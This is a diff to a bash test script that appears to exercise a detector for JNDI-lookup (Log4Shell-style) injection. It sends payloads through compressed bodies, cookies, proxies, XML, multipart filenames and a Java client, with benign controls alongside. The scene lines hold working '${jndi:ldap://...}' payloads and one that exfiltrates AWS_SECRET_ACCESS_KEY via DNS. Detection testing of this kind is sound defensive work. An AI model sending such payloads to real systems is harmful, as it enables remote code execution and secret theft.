@@ -37,6 +37,29 @@ multipart() {
         <<<'plain text'
 }
 
+# Codings that curl does not put on by itself; no label at all for the first.
+packed() {
+    local text=$1
+    printf '%s' "$text" | gzip -n | gzip -n | curl_out --data-binary @- http://10.99.0.2/upload
+    printf '%s' "$text" | zstd -q -c | curl_out -H 'Content-Encoding: zstd' --data-binary @- http://10.99.0.2/api
+    printf '%s' "$text" | /usr/bin/python3 -c 'import brotli, sys; sys.stdout.buffer.write(brotli.compress(sys.stdin.buffer.read()))' |
+        curl_out -H 'Content-Encoding: br' -H 'Content-Type: application/json' --data-binary @- http://10.99.0.2/api
+}
+
+# A cookie, and a query sent through a proxy: the target is a whole URL.
+places() {
+    local text=$1
+    curl_out -b "theme=dark; sid=$text" http://10.99.0.2/
+    curl_out -x http://10.99.0.2:80 -G --data-urlencode "user[name]=$text" http://shop.example/search
+    curl_out -H 'Content-Type: application/xml' http://10.99.0.2/api --data-binary \
+        "<order><item no=\"1\"/><note><![CDATA[$text]]></note></order>"
+    curl_out -F 'a=1' -F "file=@-;filename=$text" http://10.99.0.2/upload <<<'plain text'
+}
+
+jvm_post() {
+    timeout 60 $OUT java -cp "$WORK/classes" HttpPost http://10.99.0.2/api application/json "$1"
+}
+
 # What web applications, templates, shells and configuration servers really send.
 templates() {
     curl_out --data-binary @"$here/srv/template.js" -H 'Content-Type: text/javascript' http://10.99.0.2/save
@@ -56,7 +79,8 @@ talk() {
 }
 
 http_names="http-header http-header-ipv6 http-query-obfuscated http-json-escaped http-form http-chunked http-gzip
-    http-small-segments http-keepalive http-multipart http-leak benign-http-templates benign-http-talk"
+    http-small-segments http-keepalive http-multipart http-leak http-packed http-places http-jvm
+    benign-http-packed benign-http-places benign-http-jvm benign-http-templates benign-http-talk"
 # shellcheck disable=SC2086
 if wanted $http_names; then
     http_up
@@ -74,6 +98,12 @@ if wanted $http_names; then
     scene http-multipart multipart
     scene http-leak curl_out -H 'X-Forwarded-For: ${jndi:dns://10.99.0.1/${env:AWS_SECRET_ACCESS_KEY}.leak.example}' \
         http://10.99.0.2/
+    scene http-packed packed '{"name":"${jndi:ldap://10.99.0.1:1389/packed}"}'
+    scene http-places places '${jndi:ldap://10.99.0.1:1389/place}'
+    scene http-jvm jvm_post '{"user":{"tags":["a","${jndi:ldap://10.99.0.1:1389/jvm}"]}}'
+    scene benign-http-packed packed '{"name":"${user.name}","more":"${a:-b} jndi"}'
+    scene benign-http-places places '${user.name:-nobody}'
+    scene benign-http-jvm jvm_post '{"user":{"tags":["a","${tag:none}"]}}'
     scene benign-http-templates templates
     scene benign-http-talk talk
     stop_servers
